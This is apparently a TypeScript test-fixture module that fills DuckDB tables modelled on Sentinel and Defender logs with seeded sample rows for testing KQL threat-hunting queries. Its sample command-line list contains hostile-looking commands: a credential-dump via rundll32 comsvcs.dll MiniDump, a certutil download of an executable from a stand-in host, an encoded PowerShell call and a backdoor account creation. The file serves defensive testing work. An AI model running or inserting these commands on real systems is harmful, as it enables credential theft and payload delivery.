import { seededRandom } from '../../src/util/seeded-random.js';
import type { DuckDBConnection } from '@duckdb/node-api';
import type { SentinelCatalog } from '../../src/catalog/catalog.js';
import { DuckDbDialect } from '../../src/engine/duckdb/duckdb-dialect.js';
import { sqlIdent, sqlString } from '../../src/engine/duckdb/sql-text.js';
import type { Column, KqlType } from '../../src/kql/types.js';

/**
 * A small generated dataset for the corpus: a few seeded rows per table, each value plausible for
 * its column's type and name (IP addresses in *IP* columns, hashes in SHA256, account names in
 * *Account*, …), so that real hunting queries find something to filter, parse and join on.
 * Deterministic: the same seed gives the same rows.
 */
export const SAMPLE_NOW = new Date('2026-01-15T12:00:00Z');
export const SAMPLE_ROWS = 6;

const dialect = new DuckDbDialect();

/** Creates `table` with `columns` and fills it with SAMPLE_ROWS generated rows. */
export async function createSampleTable(connection: DuckDBConnection, table: string, columns: Column[], seed: number): Promise<void> {
  const defs = columns.map((c) => `${sqlIdent(c.name)} ${dialect.sqlType(c.type)}`).join(', ');
  await connection.run(`CREATE TABLE ${sqlIdent(table)} (${defs})`);
  for (const c of columns) {
    if (c.type === 'timespan') await connection.run(`COMMENT ON COLUMN ${sqlIdent(table)}.${sqlIdent(c.name)} IS 'kql:timespan'`);
  }
  const random = seededRandom(seed);
  const rows: string[] = [];
  for (let i = 0; i < SAMPLE_ROWS; i++) {
    rows.push(`(${columns.map((c) => sampleLiteral(c, i, random)).join(', ')})`);
  }
  await connection.run(`INSERT INTO ${sqlIdent(table)} VALUES ${rows.join(', ')}`);
}

export { seededRandom };

function sampleLiteral(c: Column, row: number, random: () => number): string {
  const v = sampleValue(c.name, c.type, row, random);
  if (c.type === 'string') return sqlString(String(v));
  if (c.type === 'dynamic') return `CAST(${sqlString(JSON.stringify(v))} AS JSON)`;
  if (c.type === 'datetime') return `TIMESTAMP ${sqlString(String(v))}`;
  if (c.type === 'guid') return `CAST(${sqlString(String(v))} AS UUID)`;
  if (c.type === 'bool') return v ? 'TRUE' : 'FALSE';
  return `CAST(${String(v)} AS ${dialect.sqlType(c.type)})`;
}

const pick = <T>(xs: readonly T[], random: () => number): T => xs[Math.floor(random() * xs.length)]!;
const hex = (n: number, random: () => number) => Array.from({ length: n }, () => Math.floor(random() * 16).toString(16)).join('');
const guid = (random: () => number) => `${hex(8, random)}-${hex(4, random)}-4${hex(3, random)}-a${hex(3, random)}-${hex(12, random)}`;

const IPS = ['10.0.0.5', '192.168.1.20', '203.0.113.7', '198.51.100.23', '172.16.4.9', '8.8.8.8'];
const USERS = ['alice', 'bob', 'svc_backup', 'admin', 'carol', 'SYSTEM'];
const DOMAIN = 'contoso.com';
const HOSTS = ['ws-001', 'ws-002', 'srv-dc01', 'srv-web02', 'laptop-77', 'ws-003'];
const FILES = ['powershell.exe', 'cmd.exe', 'rundll32.exe', 'certutil.exe', 'explorer.exe', 'invoice.docm'];
const COMMANDS = [
  'powershell.exe -NoProfile -EncodedCommand SQBFAFgA', 'cmd.exe /c whoami /all', 'rundll32.exe comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full',
  'certutil.exe -urlcache -split -f http://203.0.113.7/a.exe a.exe', 'explorer.exe', 'net user admin P@ss /add',
];
const ACTIONS = ['ProcessCreated', 'LogonSuccess', 'LogonFailed', 'FileCreated', 'ConnectionSuccess', 'RegistryValueSet'];
const OPERATIONS = ['Add member to role', 'Update user', 'Sign-in activity', 'FileDownloaded', 'Consent to application', 'Delete'];
const URLS = ['https://login.microsoftonline.com/common', 'http://203.0.113.7/a.exe', 'https://contoso.sharepoint.com/sites/x', 'https://example.org/?q=1', 'https://github.com/a/b', 'http://10.0.0.5:8080/admin'];
const COUNTRIES = ['US', 'NL', 'DE', 'RU', 'CN', 'GB'];
const RESULTS = ['0', '50126', 'Success', 'Failure', '50074', '0'];
const EVENT_IDS = [4624, 4625, 4688, 4720, 4732, 1102];
const PORTS = [443, 80, 3389, 445, 22, 53];

/** A value of `type` suited to a column called `name` (row-indexed so joins find partners). */
export function sampleValue(name: string, type: KqlType, row: number, random: () => number): unknown {
  const n = name.toLowerCase();
  const at = <T>(xs: readonly T[]) => xs[row % xs.length]!;
  switch (type) {
    case 'bool':
      return random() < 0.5;
    case 'datetime': {
      // Within the last two days of SAMPLE_NOW, mostly the last hours: ago(1h)…ago(14d) all see rows.
      const minutes = Math.floor(random() * (row < 3 ? 60 * 3 : 60 * 48));
      return new Date(SAMPLE_NOW.getTime() - minutes * 60_000).toISOString().replace('T', ' ').replace('Z', '');
    }
    case 'timespan':
      return String(Math.floor(random() * 3600) * 10_000_000);
    case 'guid':
      return guid(random);
    case 'int':
    case 'long':
      if (/eventid$/.test(n)) return at(EVENT_IDS);
      if (/port/.test(n)) return at(PORTS);
      if (/pid$|processid/.test(n)) return 1000 + Math.floor(random() * 9000);
      if (/size|bytes/.test(n)) return Math.floor(random() * 1_000_000);
      if (/logontype/.test(n)) return at([2, 3, 10, 3, 5, 2]);
      return Math.floor(random() * 100);
    case 'real':
    case 'decimal':
      return Math.round(random() * 10_000) / 100;
    case 'dynamic':
      return sampleDynamic(n, row, random);
    case 'string':
      return sampleString(n, row, random);
  }
}

function sampleString(n: string, row: number, random: () => number): string {
  const at = <T>(xs: readonly T[]) => xs[row % xs.length]!;
  if (/additionalfields|properties|details|json|extendedproperties|rawdata/.test(n)) return JSON.stringify(sampleDynamic(n, row, random));
  if (/sha256/.test(n)) return hex(64, random);
  if (/sha1/.test(n)) return hex(40, random);
  if (/md5/.test(n)) return hex(32, random);
  if (/ipaddress|ip$|^ip|clientip|sourceip|destinationip|remoteip|localip|callerip/.test(n)) return at(IPS);
  if (/upn|userprincipalname|email|mail|sender|recipient/.test(n)) return `${at(USERS)}@${DOMAIN}`;
  if (/accountdomain|domain$/.test(n)) return 'CONTOSO';
  if (/account|user|caller|identity|initiatedby/.test(n)) return at(USERS);
  if (/commandline/.test(n)) return at(COMMANDS);
  if (/folderpath|path$/.test(n)) return `C:\\Windows\\System32\\${at(FILES)}`;
  if (/filename|process$|image|processname/.test(n)) return at(FILES);
  if (/devicename|computer|hostname|host$|machine/.test(n)) return `${at(HOSTS)}.${DOMAIN}`;
  if (/url|uri/.test(n)) return at(URLS);
  if (/actiontype|activitytype|eventtype/.test(n)) return at(ACTIONS);
  if (/operation|activity/.test(n)) return at(OPERATIONS);
  if (/country|location/.test(n)) return at(COUNTRIES);
  if (/resulttype|resultcode|status|result/.test(n)) return at(RESULTS);
  if (/port/.test(n)) return String(at(PORTS));
  if (/eventid/.test(n)) return String(at(EVENT_IDS));
  if (/(^|[a-z])id$|guid|correlation/.test(n)) return guid(random);
  if (/time|date/.test(n)) return new Date(SAMPLE_NOW.getTime() - row * 3_600_000).toISOString();
  if (/severity|level/.test(n)) return at(['High', 'Medium', 'Low', 'Informational', 'High', 'Low']);
  return `${n}-${row % 3}`;
}

function sampleDynamic(n: string, row: number, random: () => number): unknown {
  const at = <T>(xs: readonly T[]) => xs[row % xs.length]!;
  if (/ipaddresses|ips$|addresses|tags|list|roles|entities|members|targets$/.test(n)) return [at(IPS), at(USERS)];
  return {
    Name: at(USERS),
    IPAddress: at(IPS),
    Count: Math.floor(random() * 10),
    Detail: { Url: at(URLS), Value: `v${row % 3}` },
    Items: [at(FILES), at(HOSTS)],
  };
}

const IDENTIFIER = /[A-Za-z_][A-Za-z0-9_]*/g;

/**
 * Creates every catalog table the queries name, with sample rows, as Sentinel stores them: a
 * Defender XDR table with TimeGenerated is stored without Timestamp (the engine reads it from
 * TimeGenerated). Call engine.refreshCatalog() afterwards.
 */
export async function createSampleTables(connection: DuckDBConnection, catalog: SentinelCatalog, queries: string[]): Promise<string[]> {
  const names = new Set<string>();
  for (const q of queries) for (const m of q.matchAll(IDENTIFIER)) if (catalog.get(m[0])) names.add(m[0]);
  const sorted = [...names].sort();
  for (const [i, name] of sorted.entries()) {
    const table = catalog.get(name)!;
    // DuckDB's names are case-insensitive: of columns differing only in case, the first is stored.
    const seen = new Set<string>();
    const stored = table.columns.filter((c, _, all) => {
      if (table.defenderXdr && c.name === 'Timestamp' && all.some((o) => o.name === 'TimeGenerated')) return false;
      const key = c.name.toLowerCase();
      return !seen.has(key) && seen.add(key) !== undefined;
    });
    await createSampleTable(connection, name, stored, 1000 + i);
  }
  return sorted;
}
